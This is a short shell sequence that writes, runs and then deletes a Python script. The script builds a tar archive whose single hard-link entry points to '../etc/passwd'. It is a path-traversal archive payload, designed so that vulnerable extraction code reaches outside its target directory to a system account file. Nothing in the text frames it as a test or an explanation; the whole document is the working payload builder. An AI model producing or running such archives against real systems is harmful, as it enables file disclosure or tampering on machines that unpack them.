cat > m.py <<'E'
import tarfile,io
t=tarfile.open('a.tar','w')
l=tarfile.TarInfo('h'); l.type=tarfile.LNKTYPE; l.linkname='../etc/passwd'; t.addfile(l)
t.close()
E
python3 m.py
rm m.py
